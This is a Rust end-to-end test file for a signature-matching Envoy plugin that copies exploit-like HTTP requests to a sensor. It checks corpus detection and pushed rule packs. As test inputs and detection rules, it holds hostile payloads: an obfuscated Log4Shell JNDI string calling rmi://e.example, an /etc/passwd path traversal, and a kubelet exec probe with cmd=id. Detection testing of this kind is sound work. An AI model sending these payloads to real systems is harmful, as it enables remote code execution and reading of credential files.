#![cfg(feature = "e2e")]
//! The signature corpus (`shared/corpus/signatures.ndjson`) through a real Envoy running
//! meshsight.wasm (envoy-config/e2e/one_pass.yaml, mirror and audit, no allowlist): every
//! exploit request is copied to the sensor, no benign look-alike is; per-category counts are
//! printed. A second test pushes a policy with a user pack (a rule added, a built-in rule
//! overridden, one switched off) and checks that hits name their rule id in the copy, the audit
//! record and the counters.
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use meshsight_cli::signatures::test_requests::{parse_requests, CorpusTally, TestRequest};
use meshsight_rig::{send, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::Value;

const CORPUS: &str = include_str!("../../../shared/corpus/signatures.ndjson");
const WAIT: Duration = Duration::from_secs(20);

const TARGETS: &str = r#""targets": {"ids": {"cluster": "sensor", "delivery": "dispatch", "max_rps": 10000, "burst": 10000, "max_in_flight": 1000}}, "hold_for_body": true"#;

fn config(signatures: &str) -> String {
    format!(
        r#"{{
  "mirror": {{{TARGETS}{signatures}}},
  "audit": {{"format": "ocsf", "sink": {{"http": {{"cluster": "collector", "path": "/v1/audit", "flush_interval_ms": 100}}}}}}
}}"#
    )
}

struct Run {
    envoy: Envoy,
    sensor: Sensor,
    collector: Collector,
    upstream: EchoUpstream,
}

fn start(config: String) -> Run {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/one_pass.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("MESHSIGHT_CONFIG", config)
        .start()
        .unwrap_or_else(|err| panic!("the plugin must start: {err}"));
    Run {
        envoy,
        sensor,
        collector,
        upstream,
    }
}

fn send_request(run: &Run, id: &str, r: &TestRequest) -> u16 {
    let mut request = HttpRequest::new(&r.method, r.path.as_bytes()).header("x-request-id", id);
    if !r.headers.iter().any(|(k, _)| k == "host") {
        request = request.header("host", "shop.example.com");
    }
    for (name, value) in &r.headers {
        request = request.header(name, value);
    }
    let body = r.body_bytes();
    if !body.is_empty() || r.method == "POST" || r.method == "PUT" {
        request = request.body(body);
    }
    send(run.envoy.port(), &request).status
}

/// Audit records by `x-request-id`, once every id in `ids` has one (or the wait ends).
fn records(collector: &Collector, ids: &[String]) -> BTreeMap<String, Value> {
    collector
        .wait_for_records(ids, WAIT)
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The request ids the sensor got a copy of.
fn copied_ids(sensor: &Sensor) -> BTreeSet<String> {
    // Copies are sent on the root's 1 ms tick; give the last ones a moment.
    std::thread::sleep(Duration::from_millis(500));
    sensor.request_ids()
}

#[test]
fn every_exploit_of_the_corpus_is_copied_and_no_benign_look_alike_is() {
    let corpus = parse_requests(CORPUS.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let run = start(config(""));
    let mut ids = Vec::new();
    for (i, r) in corpus.iter().enumerate() {
        let id = format!("corpus-{i}");
        let status = send_request(&run, &id, r);
        assert!(
            status < 500,
            "{:?}: Envoy answered {status} (a request Envoy refuses is no corpus entry)",
            r.name
        );
        ids.push(id);
    }
    let records = records(&run.collector, &ids);
    let copied = copied_ids(&run.sensor);
    // Envoy's connection manager removes a `Referer` that is not a valid URI reference before
    // any filter runs: neither the plugin nor the application sees such a header.
    let upstream_referer: BTreeMap<String, bool> = run
        .upstream
        .requests()
        .iter()
        .filter_map(|q| {
            let id = q.header("x-request-id")?.to_string();
            Some((id, q.header("referer").is_some()))
        })
        .collect();
    let mut removed_by_envoy = Vec::new();
    let mut tally = CorpusTally::default();
    for (id, r) in ids.iter().zip(&corpus) {
        let expect = r.expect.clone().unwrap_or_default();
        let category = r.category.clone().unwrap_or_default();
        let was_copied = copied.contains(id);
        let mirror = &records.get(id).map_or(Value::Null, |rec| {
            rec["unmapped"]["meshsight"]["mirror"].clone()
        });
        let ok = match expect.as_str() {
            "hit" => {
                was_copied
                    && mirror["signatures"]
                        .as_array()
                        .is_some_and(|s| s.iter().any(|c| c == category.as_str()))
                    && mirror["signature_rules"]
                        .as_array()
                        .is_some_and(|s| !s.is_empty())
            }
            _ => !was_copied,
        };
        let only_referer = r.headers.len() == 1 && r.headers[0].0 == "referer";
        if !ok && expect == "hit" && only_referer && upstream_referer.get(id) == Some(&false) {
            removed_by_envoy.push(format!("{id} {:?}", r.name));
            continue;
        }
        tally.record(r, ok, || {
            format!(
                "{id} {:?} {} {}: copied {was_copied}, mirror decision {mirror}",
                r.name, r.method, r.path
            )
        });
    }
    print!("{}", tally.table("as expected (real Envoy)"));
    if let Err(wrong) = tally.verdict() {
        panic!("{wrong}");
    }
}

#[test]
fn a_pushed_pack_adds_overrides_and_switches_off_rules_and_hits_name_their_rule() {
    let pack = r#", "signatures": {"packs": [{"pack": "soc-weekly", "version": "2026-w48", "rules": [
        {"id": "soc-acme-debug", "name": "Acme debug backdoor header", "category": "acme",
         "severity": "high", "references": ["ATT&CK T1190"], "in": ["headers"],
         "headers": ["x-acme-debug"], "match": {"any": ["enable"]}},
        {"id": "ms-traversal-sensitive-file", "name": "Sensitive file (SOC: win.ini dropped)",
         "category": "path_traversal", "severity": "high", "in": ["path", "query"],
         "match": {"any": ["/etc/passwd", "/etc/shadow"]}}]}],
      "rules": {"ms-kubelet-exec-route": false}}"#;
    let run = start(config(pack));
    let cases = [
        (
            "acme",
            "/api/items",
            Some(("x-acme-debug", "enable=1")),
            true,
        ),
        ("passwd", "/x?f=/etc/passwd", None, true),
        ("winini", "/download?file=win.ini", None, false),
        ("kubelet", "/run/default/web/web?cmd=id", None, false),
        (
            "log4shell",
            "/api/items",
            Some((
                "user-agent",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}",
            )),
            true,
        ),
    ];
    let mut ids = Vec::new();
    for (id, path, header, _) in &cases {
        let mut r = TestRequest {
            name: Some((*id).to_string()),
            method: "GET".into(),
            path: (*path).into(),
            headers: Vec::new(),
            body: String::new(),
            body_base64: None,
            expect: None,
            category: None,
            source: None,
            response: None,
        };
        if let Some((k, v)) = header {
            r.headers.push(((*k).into(), (*v).into()));
        }
        assert!(send_request(&run, id, &r) < 500);
        ids.push((*id).to_string());
    }
    let records = records(&run.collector, &ids);
    let copied = copied_ids(&run.sensor);
    for (id, _, _, expect) in &cases {
        assert_eq!(
            copied.contains(*id),
            *expect,
            "{id}: copied; record {}",
            records
                .get(*id)
                .map_or(Value::Null, |r| r["unmapped"].clone())
        );
    }
    let acme = &records["acme"]["unmapped"]["meshsight"]["mirror"];
    assert_eq!(acme["signatures"], serde_json::json!(["acme"]), "{acme}");
    assert_eq!(
        acme["signature_rules"],
        serde_json::json!(["soc-acme-debug"]),
        "{acme}"
    );
    let copy = run
        .sensor
        .requests()
        .into_iter()
        .find(|r| r.header("x-request-id") == Some("log4shell"))
        .unwrap_or_else(|| panic!("no copy of the log4shell request"));
    assert_eq!(
        copy.header("x-meshsight-mirror-signatures"),
        Some("log4shell")
    );
    assert_eq!(
        copy.header("x-meshsight-mirror-signature-rules"),
        Some("ms-log4shell-jndi,ms-log4shell-lookup-protocol")
    );
    // The module flushes its counters on its tick: wait for the last ones before the snapshot.
    for name in [
        "meshsight_mirror_signature_acme",
        "meshsight_mirror_signature_rule_ms_log4shell_jndi",
        "meshsight_mirror_signature_rule_soc_acme_debug",
    ] {
        let _ = run.envoy.settled_stat(name, 1, WAIT);
    }
    let stats = run.envoy.stats();
    let stat = |name: &str| {
        stats
            .iter()
            .find(|(k, _)| k.ends_with(name))
            .map_or(0, |(_, v)| *v)
    };
    assert_eq!(
        stat(
            "meshsight_mirror_signature_rule_soc-acme-debug"
                .replace('-', "_")
                .as_str()
        ),
        1
    );
    assert_eq!(stat("meshsight_mirror_signature_rule_ms_log4shell_jndi"), 1);
    assert_eq!(stat("meshsight_mirror_signature_acme"), 1);
    assert!(
        !stats
            .keys()
            .any(|k| k.contains("signature_rule_ms_kubelet_exec_route")),
        "a switched-off rule has no counter"
    );
}
